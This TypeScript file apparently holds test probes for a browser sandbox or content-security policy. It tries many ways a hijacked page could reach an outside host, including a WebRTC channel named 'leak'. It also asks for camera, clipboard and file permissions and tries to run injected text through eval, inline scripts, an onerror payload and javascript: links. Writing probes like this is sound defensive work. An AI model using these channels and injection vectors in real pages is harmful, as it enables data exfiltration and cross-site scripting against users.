/** What a page that was taken over would try. Run inside the page; nothing here may import anything. */

/** Tries every way a page knows to reach a host; resolves when each has failed, worked or gone silent. */
export async function reachOut({ host, udpPort }: { host: string; udpPort: number }): Promise<string[]> {
  const url = (name: string) => `http://${host}/${name}`;
  const reached: string[] = [];
  const within = 1_500;
  const settled = (name: string, attempt: () => Promise<unknown>) =>
    Promise.race([
      (async () => {
        try {
          await attempt();
          reached.push(name);
        } catch {
          // Refused, as it should be.
        }
      })(),
      new Promise((done) => setTimeout(done, within)),
    ]);
  const loaded = (element: HTMLElement) =>
    new Promise((done, fail) => {
      element.addEventListener('load', done);
      element.addEventListener('error', () => fail(new Error('refused')));
      document.body.append(element);
    });
  const make = (tag: string, properties: Record<string, string>) =>
    Object.assign(document.createElement(tag), properties);
  const opened = (target: EventTarget) =>
    new Promise((done, fail) => {
      target.addEventListener('open', done);
      target.addEventListener('error', () => fail(new Error('refused')));
    });

  await Promise.all([
    settled('fetch', () => fetch(url('fetch'))),
    settled('fetch without CORS', () => fetch(url('no-cors'), { mode: 'no-cors' })),
    settled('request', async () => {
      const request = new XMLHttpRequest();
      request.open('GET', url('request'), false);
      request.send();
    }),
    settled('socket', () => opened(new WebSocket(`ws://${host}/socket`))),
    settled('events', () => opened(new EventSource(url('events')))),
    settled('image', () => loaded(make('img', { src: url('image.png') }))),
    settled('script', () => loaded(make('script', { src: url('script.js') }))),
    settled('style', () => loaded(make('link', { rel: 'stylesheet', href: url('style.css') }))),
    settled('preload', () => loaded(make('link', { rel: 'prefetch', href: url('prefetch') }))),
    settled('font', () => new FontFace('foreign', `url(${url('font.woff2')})`).load()),
    settled('module', () => import(url('module.js'))),
    settled('worker', () => opened(new Worker(url('worker.js')))),
    settled('service worker', () => navigator.serviceWorker.register(url('service.js'))),
    settled('own service worker', () => navigator.serviceWorker.register('/assets/service.js')),
  ]);
  // These say nothing of what became of them: whoever listens outside will know.
  navigator.sendBeacon(url('beacon'), 'x');
  document.body.append(make('iframe', { src: url('frame') }));
  document.body.append(make('object', { data: url('object') }));
  document.body.append(make('embed', { src: url('embed') }));
  document.body.append(make('video', { src: url('video.mp4') }));
  document.body.append(make('link', { rel: 'manifest', href: url('manifest.json') }));
  document.body.append(make('link', { rel: 'preconnect', href: url('') }));
  document.body.append(make('link', { rel: 'dns-prefetch', href: url('') }));
  document.body.style.backgroundImage = `url(${url('background.png')})`;
  const form = make('form', { action: url('form'), method: 'post' }) as HTMLFormElement;
  document.body.append(form);
  form.submit();
  const peer = new RTCPeerConnection({
    iceServers: [
      { urls: `stun:127.0.0.1:${udpPort}` },
      { urls: `turn:${host}?transport=tcp`, username: 'a', credential: 'b' },
    ],
  });
  peer.createDataChannel('leak');
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((done) => setTimeout(done, within));
  peer.close();
  document.body.style.backgroundImage = '';
  return reached;
}

/** Asks for what a page may ask the user for; answers what it got. */
export async function askForPermissions(): Promise<string[]> {
  const asks: Record<string, () => Promise<unknown>> = {
    place: () =>
      new Promise((done, fail) => {
        navigator.geolocation.getCurrentPosition(done, (error) => fail(new Error(error.message)));
      }),
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
    microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
    screen: () => navigator.mediaDevices.getDisplayMedia(),
    clipboard: () => navigator.clipboard.readText(),
    midi: () => navigator.requestMIDIAccess({ sysex: true }),
    fonts: () => (Reflect.get(window, 'queryLocalFonts') as () => Promise<unknown>).call(window),
    usb: () =>
      (Reflect.get(navigator, 'usb') as { requestDevice: (o: unknown) => Promise<unknown> }).requestDevice({
        filters: [],
      }),
    files: () => (Reflect.get(window, 'showOpenFilePicker') as () => Promise<unknown>).call(window),
    folders: () => (Reflect.get(window, 'showDirectoryPicker') as () => Promise<unknown>).call(window),
    lock: () => navigator.wakeLock.request('screen'),
  };
  const granted: string[] = [];
  for (const [name, ask] of Object.entries(asks)) {
    const late = new Promise((_, fail) => setTimeout(() => fail(new Error('no answer')), 2_000));
    try {
      await Promise.race([ask(), late]);
      granted.push(name);
    } catch {
      // Refused.
    }
  }
  return granted;
}

/** Tries to run text as code, or to style by attribute; answers what worked. */
export async function runText(): Promise<string[]> {
  const ran: string[] = [];
  Object.assign(window, { ran });
  const code = (name: string) => `window.ran.push(${JSON.stringify(name)})`;
  const callable = (name: string) => Reflect.get(window, name) as (...given: unknown[]) => unknown;
  // Outside what a debugger evaluates, where other rules hold.
  await new Promise<void>((done) => {
    setTimeout(() => {
      const tries = [
        () => callable('eval')(code('eval')),
        () => (Reflect.construct(callable('Function'), [code('function')]) as () => unknown)(),
        () => callable('setTimeout')(code('timer'), 0),
      ];
      for (const attempt of tries) {
        try {
          attempt();
        } catch {
          // Refused.
        }
      }
      done();
    }, 0);
  });
  const script = document.createElement('script');
  script.textContent = code('script');
  document.body.append(script);
  const box = document.createElement('div');
  box.innerHTML = `<img src="data:," onerror='${code('handler')}'><p style="position: fixed">x</p>`;
  document.body.append(box);
  const link = document.createElement('a');
  link.href = `javascript:${code('link')}`;
  document.body.append(link);
  link.click();
  const worker = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
  await new Promise<void>((done) => {
    setTimeout(done, 1_000);
    try {
      const made = new Worker(worker);
      made.addEventListener('message', () => ran.push('worker'));
      made.addEventListener('error', () => done());
    } catch {
      done();
    }
  });
  const styled = box.querySelector('p');
  if (styled !== null && getComputedStyle(styled).position === 'fixed') ran.push('style attribute');
  box.remove();
  return ran;
}
